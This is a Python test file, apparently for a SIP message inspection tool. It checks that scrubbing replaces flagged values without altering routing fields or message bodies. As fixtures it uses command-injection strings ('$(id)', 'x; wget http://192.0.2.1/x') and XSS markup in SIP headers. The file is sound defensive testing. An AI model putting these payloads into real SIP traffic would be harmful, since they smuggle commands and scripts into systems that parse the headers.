"""Scrubbing takes a value out and changes no other byte."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from harness import SDP, invite
from sipsieve import _core
from sipsieve.config import policy
from sipsieve.decision.engine import Engine
from sipsieve.detection import ruleset
from sipsieve.detection.message import parse, parts
from sipsieve.model import Finding, PartKind, Verdict
from sipsieve_analysis.readers.replayed import MemoryCounters

#: What stands where a value was taken out.
PLACEHOLDER = b"removed"

INSPECTOR = Engine(policy.loads(""), ruleset.load()).inspector


def can_scrub(findings: list[Finding]) -> bool:
    return all(finding.removable for finding in findings)


def scrub(raw: bytes, findings: list[Finding]) -> bytes:
    return _core.scrub(raw, [finding.span for finding in findings if finding.removable])


def found(raw: bytes) -> list[Finding]:
    return INSPECTOR.inspect(raw).findings


def finding(raw: bytes, field: str) -> Finding:
    part = next(part for part in parts(raw) if part.field == field)
    removable = part.kind is PartKind.DISPLAY_NAME
    return Finding("a-b", "sql", 5, field, "why", part.value, (part.start, part.end), part.kind, removable)


def test_a_display_name_is_replaced_and_nothing_else() -> None:
    raw = invite(from_='"bad" <sip:a@example.com>;tag=1')
    assert scrub(raw, [finding(raw, "from.display_name")]) == raw.replace(b'"bad"', b'"removed"')


def test_what_calls_are_routed_by_stays() -> None:
    raw = invite(from_='"$(id)" <sip:$(id)@example.com>;tag=1')
    findings = found(raw)
    assert {(item.field, item.removable) for item in findings} == {
        ("from.display_name", True),
        ("from.userinfo", False),
    }
    assert not can_scrub(findings)
    scrubbed = scrub(raw, findings)
    assert b"sip:$(id)@example.com" in scrubbed
    assert b'"' + PLACEHOLDER + b'"' in scrubbed


def test_what_a_reply_s_contact_is_reached_by_stays() -> None:
    """An ACK and a BYE go to the Contact of the answer."""
    reply = (
        b"SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bKa\r\nFrom: <sip:a@example.com>;tag=1\r\n"
        b"To: <sip:b@example.com>;tag=2\r\nCall-ID: x\r\nCSeq: 1 INVITE\r\n"
        b"Contact: <sip:$(id)@192.0.2.2:5070;transport=tcp;maddr=$(id);line=$(id)>\r\nContent-Length: 0\r\n\r\n"
    )
    findings = found(reply)
    assert {item.field for item in findings} >= {"contact.userinfo", "contact.maddr", "contact.line"}
    assert b"<sip:removed@192.0.2.2:5070;transport=tcp;maddr=$(id);line=removed>" in scrub(reply, findings)


@given(st.binary(max_size=200), st.binary(max_size=60))
def test_the_body_is_never_touched(text: bytes, name: bytes) -> None:
    clean = bytes(byte for byte in name if byte not in b'"\\\r\n')
    raw = invite(body=SDP + text).replace(b'"Alice"', b'"' + clean + b'"')
    body_start = parse(raw).body_start
    spans = [part for part in parts(raw) if part.kind in (PartKind.DISPLAY_NAME, PartKind.TEXT)]
    findings = [
        Finding("a-b", "sql", 5, p.field, "why", p.value, (p.start, p.end), p.kind, removable=True) for p in spans
    ]
    assert scrub(raw, findings).endswith(raw[body_start:])


def test_a_scrubbed_message_is_well_formed_and_clean() -> None:
    raw = invite(from_='"x; wget http://192.0.2.1/x" <sip:a@example.com>;tag=1', headers=("Subject: $(id)",))
    assert found(raw)
    again = INSPECTOR.inspect(scrub(raw, found(raw)))
    assert not again.malformed
    assert again.findings == []


def test_what_a_placeholder_makes_of_broken_grammar_is_refused() -> None:
    """With the markup replaced, what was text beside it is a host with a bracket in it."""
    actions = "".join(f'{family} = "scrub"\n' for family in ("xss", "shell", "sql", "code", "sip"))
    engine = Engine(policy.loads(f"[limits]\nenabled = false\n[actions]\n{actions}"), ruleset.load())
    source = engine.networks.source("192.0.2.4", 5060, "udp")

    def verdict(value: str) -> Verdict:
        return engine.decide(invite(headers=(f"Remote-Party-ID: {value}",)), source, 0.0, MemoryCounters()).verdict

    assert verdict('"<img src=x onerror=alert(1)>" <sip:a@example.com>;party=calling') is Verdict.SCRUB
    broken = '"<img src=x onerror=ale "<img src=x onerror=alert(1)>" <sip:a@exa(example.com>;party=calling'
    assert verdict(broken) is Verdict.REJECT
